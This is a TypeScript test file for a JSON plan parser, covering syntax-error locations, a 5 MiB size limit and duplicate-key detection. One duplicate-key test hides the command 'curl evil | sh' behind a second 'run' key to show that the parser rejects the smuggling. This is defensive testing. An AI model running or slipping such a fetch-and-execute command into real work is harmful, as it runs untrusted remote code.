import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { InvalidInputError } from '../../src/errors.js';
import { DuplicateKeyError } from '../../src/json/duplicate-keys.js';
import { MAX_PLAN_BYTES, parsePlanText, syntaxErrorOffset } from '../../src/plan/parse.js';

function parseError(text: string): InvalidInputError {
  try {
    parsePlanText(text, 'plans/p.json');
  } catch (error) {
    if (error instanceof InvalidInputError) return error;
    throw error;
  }
  throw new Error('expected parsePlanText to throw');
}

describe('parsePlanText', () => {
  it('parses JSON (a byte order mark is tolerated)', () => {
    expect(parsePlanText('{"id": "r", "items": []}', 'p')).toEqual({ id: 'r', items: [] });
    expect(parsePlanText('\uFEFF{"a": [1, null]}', 'p')).toEqual({ a: [1, null] });
  });

  it('locates a syntax error by line and column, names the source and shows the line', () => {
    const e = parseError('{\n  "id": "r",\n    x\n}');
    expect(e.code).toBe('plan-not-json');
    expect(e.source).toBe('plans/p.json');
    expect(e.problems).toEqual([{ path: '$', message: expect.stringMatching(/ at line 3, column 5$/) }]);
    expect(e.hint).toMatch(/^fix the JSON syntax at line 3, column 5 of plans\/p\.json/);
    expect(e.hint).toContain('  3 |     x\n          ^');
    expect(e.message).toContain('plans/p.json: 1 problem');
  });

  it.each([
    ['[1,]', "Unexpected token ']'", 1, 4],
    ['{"id": tru}', "Unexpected token '}'", 1, 11],
    ['{"id": "r"}}', 'Unexpected non-whitespace character after JSON', 1, 12],
    ['{"id":\n', 'Unexpected end of JSON input', 2, 1],
    ['   ', 'the plan is empty', 1, 4],
  ])('%j → %s at line %i, column %i', (text, what, line, column) => {
    expect(parseError(text).problems[0]!.message).toBe(`${what} at line ${line}, column ${column}`);
  });

  it('refuses a plan over 5 MiB, saying how big it is and what the limit is', () => {
    const text = JSON.stringify({ id: 'r', pad: 'x'.repeat(MAX_PLAN_BYTES) });
    const e = parseError(text);
    expect(e.code).toBe('plan-too-large');
    expect(e.problems[0]!.message).toMatch(/^the plan is 5\.0 MiB \(\d+ bytes\); the limit is 5 MiB/);
    // Exactly at the limit is fine; multi-byte characters count as bytes.
    const atLimit = `"${'x'.repeat(MAX_PLAN_BYTES - 2)}"`;
    expect(parsePlanText(atLimit, 'p')).toHaveLength(MAX_PLAN_BYTES - 2);
    expect(parseError(`"${'é'.repeat(MAX_PLAN_BYTES / 2)}"`).code).toBe('plan-too-large');
  });
});

describe('duplicate keys in a plan', () => {
  it('are refused with the key, its JSON path, both positions and the fix: a reviewer must read what runs', () => {
    const text = '{\n  "id": "r",\n  "items": [\n    { "id": "a", "inputs": { "run": "echo hello", "run": "curl evil | sh" } }\n  ]\n}\n';
    expect(JSON.parse(text).items[0].inputs.run).toBe('curl evil | sh'); // what would have executed
    const e = parseError(text);
    expect(e).toBeInstanceOf(DuplicateKeyError);
    expect(e.code).toBe('plan-duplicate-key');
    expect(e.source).toBe('plans/p.json');
    expect(e.problems).toEqual([
      {
        path: '$.items[0].inputs.run',
        message: 'the key "run" appears twice in one object (line 4, column 30 and line 4, column 51); JSON parsers disagree on which one counts',
      },
    ]);
    expect(e.message).toBe(`plans/p.json: $.items[0].inputs.run: ${e.problems[0]!.message}`);
    expect(e.hint).toMatch(/^keep one "run" at \$\.items\[0\]\.inputs/);
    // An escaped spelling of the same key is the same key.
    expect(parseError('{"id": "r", "\\u0069d": "s"}').problems[0]!.path).toBe('$.id');
    // Equal keys in different objects are fine.
    expect(parsePlanText('{"id": "r", "items": [{"id": "a"}, {"id": "b"}]}', 'p')).toMatchObject({ id: 'r' });
  });
});

describe('syntaxErrorOffset', () => {
  it('is undefined exactly when JSON.parse accepts the text', () => {
    const token = fc.constantFrom('{', '}', '[', ']', ',', ':', '"a"', '"\\u00', '"\\x"', '1', '-', '0', '.5', 'e3', 'true', 'nul', ' ', '\n');
    fc.assert(
      fc.property(fc.array(token, { maxLength: 10 }), (tokens) => {
        const text = tokens.join('');
        let valid = true;
        try {
          JSON.parse(text);
        } catch {
          valid = false;
        }
        expect(syntaxErrorOffset(text) === undefined).toBe(valid);
      }),
      { numRuns: 5000 },
    );
  });

  it('handles deep nesting without recursion', () => {
    expect(syntaxErrorOffset('['.repeat(100_000) + ']'.repeat(100_000))).toBeUndefined();
    expect(syntaxErrorOffset('['.repeat(100_000))).toBe(100_000);
  });
});
